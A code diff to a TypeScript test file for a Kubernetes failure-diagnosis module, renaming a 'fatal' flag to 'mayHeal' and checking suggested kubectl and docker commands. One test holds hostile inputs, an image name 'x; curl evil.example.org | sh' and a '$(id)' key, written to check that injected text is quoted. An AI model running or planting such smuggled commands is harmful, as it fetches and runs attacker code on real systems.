@@ -1,6 +1,7 @@
 import { describe, expect, it } from "vitest";
 import type { KubeObject } from "./object.ts";
-import { obstacleOf, pullMessages, workloadObstacle } from "./reasons.ts";
+import { obstacleOf, pullMessages } from "./reasons.ts";
+import { workloadObstacle } from "./workload-obstacle.ts";
 
 function pod(status: Record<string, unknown>, more: Record<string, unknown> = {}): KubeObject {
   return {
@@ -35,57 +36,57 @@ describe("obstacleOf", () => {
       "ErrImagePull",
       "rpc error: code = NotFound desc = failed to resolve reference: not found",
       "RA3101",
-      true,
+      false,
     ],
-    ["ErrImagePull", "manifest unknown: manifest unknown", "RA3101", true],
-    ["InvalidImageName", "couldn't parse image name", "RA3101", true],
+    ["ErrImagePull", "manifest unknown: manifest unknown", "RA3101", false],
+    ["InvalidImageName", "couldn't parse image name", "RA3101", false],
     [
       "ErrImagePull",
       "failed to authorize: unexpected status from GET request: 401 Unauthorized",
       "RA3102",
-      true,
+      false,
     ],
     [
       "ErrImagePull",
       "pull access denied, repository does not exist or may require authorization",
       "RA3102",
-      true,
+      false,
     ],
-    ["ErrImagePull", "toomanyrequests: You have reached your pull rate limit", "RA3103", false],
-    ["ErrImagePull", "dial tcp: i/o timeout", "RA3104", false],
+    ["ErrImagePull", "toomanyrequests: You have reached your pull rate limit", "RA3103", true],
+    ["ErrImagePull", "dial tcp: i/o timeout", "RA3104", true],
     [
       "ErrImagePull",
       "unexpected status from HEAD request to https://registry.example.org/v2/registry.example.org/not-found/web:1: 503 Service Unavailable",
       "RA3104",
-      false,
+      true,
     ],
-    ["ErrImagePull", "no match for platform in manifest: not found", "RA3116", true],
-    ["ImagePullBackOff", "Back-off pulling image", "RA3104", false],
+    ["ErrImagePull", "no match for platform in manifest: not found", "RA3116", false],
+    ["ImagePullBackOff", "Back-off pulling image", "RA3104", true],
     [
       "CreateContainerConfigError",
       "couldn't find key REPLICA_URL in Secret catalogue/catalogue-db",
       "RA3105",
-      true,
+      false,
     ],
-    ["CreateContainerConfigError", 'secret "catalogue-db" not found', "RA3105", true],
+    ["CreateContainerConfigError", 'secret "catalogue-db" not found', "RA3105", false],
     [
       "CreateContainerConfigError",
       "couldn't find key A in ConfigMap catalogue/settings",
       "RA3106",
-      true,
+      false,
     ],
-    ["CreateContainerConfigError", 'configmap "settings" not found', "RA3106", true],
+    ["CreateContainerConfigError", 'configmap "settings" not found', "RA3106", false],
     [
       "CreateContainerConfigError",
       "container has runAsNonRoot and image will run as root",
       "RA3107",
-      true,
+      false,
     ],
-    ["CreateContainerError", "context deadline exceeded", "RA3107", false],
-  ])("%s: %s is %s", (reason, message, code, fatal) => {
+    ["CreateContainerError", "context deadline exceeded", "RA3107", true],
+  ])("%s: %s is %s, may heal: %s", (reason, message, code, mayHeal) => {
     expect(obstacleOf(pod(waiting(reason, message)))).toMatchObject({
       code,
-      fatal,
+      mayHeal,
       clusterSaid: message,
       container: "web",
     });
@@ -94,8 +95,8 @@ describe("obstacleOf", () => {
   it("remembers the first message of a pull through the back-off", () => {
     const said = new Map(pullMessages(pod(waiting("ErrImagePull", "manifest unknown"))));
     expect(
-      obstacleOf(pod(waiting("ImagePullBackOff", "Back-off pulling image")), said),
-    ).toMatchObject({ code: "RA3101", fatal: true, clusterSaid: "manifest unknown" });
+      obstacleOf(pod(waiting("ImagePullBackOff", "Back-off pulling image")), { firstSaid: said }),
+    ).toMatchObject({ code: "RA3101", mayHeal: false, clusterSaid: "manifest unknown" });
   });
 
   it("gives the command that adds a missing key", () => {
@@ -107,7 +108,7 @@ describe("obstacleOf", () => {
             "couldn't find key REPLICA_URL in Secret catalogue/catalogue-db",
           ),
         ),
-      )?.next,
+      )?.command,
     ).toBe(
       `kubectl -n catalogue patch secret catalogue-db --type merge -p '{"stringData":{"REPLICA_URL":"..."}}'`,
     );
@@ -120,27 +121,27 @@ describe("obstacleOf", () => {
         lastState: ended(exitCode, reason),
         restartCount,
       });
-    expect(obstacleOf(loop(1, 1))).toMatchObject({ code: "RA3108", fatal: false, exitCode: 1 });
+    expect(obstacleOf(loop(1, 1))).toMatchObject({ code: "RA3108", mayHeal: true, exitCode: 1 });
     expect(obstacleOf(loop(2, 1))).toMatchObject({
       code: "RA3108",
-      fatal: true,
+      mayHeal: false,
       exitCode: 1,
       log: "current",
     });
-    expect(obstacleOf(loop(5, 0))).toMatchObject({ code: "RA3108", fatal: false });
-    expect(obstacleOf(loop(2, 137, "OOMKilled"))).toMatchObject({ code: "RA3109", fatal: true });
+    expect(obstacleOf(loop(5, 0))).toMatchObject({ code: "RA3108", mayHeal: true });
+    expect(obstacleOf(loop(2, 137, "OOMKilled"))).toMatchObject({ code: "RA3109", mayHeal: false });
   });
 
   it("reads the log of the run before when the container was started again", () => {
     expect(
       obstacleOf(pod({ state: { running: {} }, lastState: ended(1), restartCount: 2 })),
-    ).toMatchObject({ code: "RA3108", fatal: false, log: "previous" });
+    ).toMatchObject({ code: "RA3108", mayHeal: true, log: "previous" });
   });
 
   it("sees a container that runs and is not ready, and one that is ready", () => {
     expect(obstacleOf(pod({ state: { running: {} } }))).toMatchObject({
       code: "RA3110",
-      fatal: false,
+      mayHeal: true,
     });
     expect(obstacleOf(pod({ state: { running: {} }, ready: true }))).toBeUndefined();
     expect(
@@ -165,7 +166,7 @@ describe("obstacleOf", () => {
     expect(obstacleOf(pod(waiting("PodInitializing"), status))).toMatchObject({
       container: "migrate",
       exitCode: 3,
-      fatal: true,
+      mayHeal: false,
     });
   });
 
@@ -182,17 +183,19 @@ describe("obstacleOf", () => {
     unplaced["status"] = { phase: "Pending", conditions };
     expect(obstacleOf(unplaced)).toMatchObject({
       code: "RA3111",
-      fatal: false,
+      mayHeal: true,
       clusterSaid: "0/3 nodes are available: 3 Insufficient memory.",
     });
   });
 
-  it("puts no foreign text into a command", () => {
+  it("quotes foreign text in a command", () => {
     const hostile = pod({
       ...waiting("ErrImagePull", "not found"),
       image: "x; curl evil.example.org | sh",
     });
-    expect(obstacleOf(hostile)?.next).toBe("docker buildx imagetools inspect IMAGE");
+    expect(obstacleOf(hostile)?.command).toBe(
+      "docker buildx imagetools inspect 'x; curl evil.example.org | sh'",
+    );
     expect(
       obstacleOf(
         pod(waiting("CreateContainerConfigError", "couldn't find key $(id) in Secret a/b")),
@@ -236,7 +239,7 @@ describe("workloadObstacle", () => {
   });
 
   it("honours the progress deadline only of the present generation", () => {
-    expect(workloadObstacle(workload(3, late))).toMatchObject({ code: "RA3114", fatal: true });
+    expect(workloadObstacle(workload(3, late))).toMatchObject({ code: "RA3114", mayHeal: false });
     expect(workloadObstacle(workload(2, late))).toBeUndefined();
   });
 });
